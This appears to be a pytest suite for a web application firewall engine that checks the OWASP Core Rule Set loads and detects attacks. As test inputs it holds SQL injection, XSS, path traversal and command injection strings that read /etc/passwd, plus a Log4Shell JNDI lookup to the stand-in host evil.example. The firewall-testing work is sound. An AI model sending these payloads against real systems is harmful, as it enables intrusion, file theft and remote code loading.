"""The complete OWASP CRS v4.28.0 loads with zero problems and detects as it should."""

from __future__ import annotations

import functools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from palisade.waf import HttpRequest, WafEngine
from tests.shared_data import shared_path

ENFORCING = "SecRuleEngine On\nSecRequestBodyAccess On\nSecResponseBodyAccess On\n"


def crs_paths() -> list[str]:
    crs = shared_path("data", "crs")
    rules = sorted(str(p) for p in (crs / "rules").glob("*.conf"))
    return [str(crs / "crs-setup.conf.example"), *rules]


@functools.cache
def crs_engine(before: str = ENFORCING) -> WafEngine:
    return WafEngine.load(crs_paths(), before=before)


def request(
    uri: str, *extra: tuple[str, str], method: str = "GET", body: bytes = b""
) -> HttpRequest:
    headers = (
        ("Host", "localhost"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
        ("Accept", "text/html,application/xhtml+xml"),
        *extra,
    )
    if body:
        headers = (*headers, ("Content-Length", str(len(body))))
    return HttpRequest(method, uri, "HTTP/1.1", headers, body)


def test_the_whole_crs_loads_without_problems() -> None:
    engine = crs_engine()
    ids = {rule.id for rules in engine.ruleset.phases.values() for rule in rules if rule.id}
    assert len(ids) > 600  # the README counts 629 distinct ids, setup rule included
    assert {901001, 920100, 942100, 949110, 959100, 980170} <= ids
    assert engine.ruleset.settings.component_signatures == ["OWASP_CRS/4.28.0"]


def test_benign_get_has_no_logged_match() -> None:
    result = crs_engine().evaluate(
        request("/products/index.html?page=2&sort=name", ("Cookie", "session=abc123; theme=dark"))
    )
    assert result.logged_ids() == set()
    assert not result.blocked and result.inbound_score == 0


def test_sql_injection_get_is_detected_and_blocked_at_pl1() -> None:
    result = crs_engine().evaluate(request("/?id=1%27%20or%201=1--%20-"))
    ids = result.logged_ids()
    assert any(942000 <= i < 943000 for i in ids)
    assert 949110 in ids
    assert result.inbound_score >= 5
    assert result.blocked and result.status == 403
    blocking = next(m for m in result.matches if m.id == 949110)
    assert "Inbound Anomaly Score Exceeded" in blocking.msg
    sqli = next(m for m in result.matches if 942000 <= m.id < 943000 and m.logged)
    assert sqli.variable == "ARGS:id" and "attack-sqli" in sqli.tags
    assert f'[id "{sqli.id}"]' in sqli.log_line


def test_detection_only_logs_the_same_and_lets_it_through() -> None:
    engine = crs_engine("SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\n")
    result = engine.evaluate(request("/?id=1%27%20or%201=1--%20-"))
    assert 949110 in result.logged_ids()
    assert not result.blocked and result.status is None


@pytest.mark.parametrize(
    ("uri", "family"),
    [
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941),
        ("/?file=../../../../etc/passwd", 930),
        ("/?cmd=%3Bcat%20/etc/passwd", 932),
    ],
)
def test_attack_families_at_pl1(uri: str, family: int) -> None:
    result = crs_engine().evaluate(request(uri))
    assert any(family * 1000 <= i < (family + 1) * 1000 for i in result.logged_ids())
    assert result.blocked


def test_log4shell_header_is_detected() -> None:
    result = crs_engine().evaluate(request("/", ("X-Api-Version", "${jndi:ldap://evil.example/a}")))
    assert any(944000 <= i < 945000 for i in result.logged_ids())


def test_form_post_benign_and_malicious() -> None:
    form = (("Content-Type", "application/x-www-form-urlencoded"),)
    benign = crs_engine().evaluate(
        request("/login", *form, method="POST", body=b"user=alice&password=correct+horse")
    )
    assert benign.logged_ids() == set()
    attack = crs_engine().evaluate(
        request("/login", *form, method="POST", body=b"user=admin%27--&password=x")
    )
    assert 949110 in attack.logged_ids()


def test_paranoia_level_from_before_text() -> None:
    pl2 = crs_engine(
        ENFORCING + 'SecAction "id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2"\n'
    )
    pl1_ids = crs_engine().evaluate(request("/?q=1%27%27")).logged_ids()
    pl2_ids = pl2.evaluate(request("/?q=1%27%27")).logged_ids()
    assert pl1_ids <= pl2_ids  # PL2 runs every PL1 rule and more


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    query=st.binary(max_size=300),
    header=st.binary(max_size=200),
    body=st.binary(max_size=600),
    content_type=st.sampled_from(
        [
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz",
            "application/json",
            "text/xml",
            "application/octet-stream",
        ]
    ),
)
def test_arbitrary_input_never_breaks_a_rule(
    query: bytes, header: bytes, body: bytes, content_type: str
) -> None:
    engine = crs_engine(
        ENFORCING
        + 'SecRule REQUEST_HEADERS:Content-Type "^application/json" '
        + '"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"\n'
        + 'SecRule REQUEST_HEADERS:Content-Type "^text/xml" '
        + '"id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"\n'
    )
    uri = "/p?" + query.decode("latin-1").replace(" ", "%20").replace("#", "%23")
    result = engine.evaluate(
        request(
            uri,
            ("Content-Type", content_type),
            ("X-Fuzz", header.decode("latin-1").replace("\r", " ").replace("\n", " ")),
            method="POST",
            body=body,
        )
    )
    assert result.errors == []
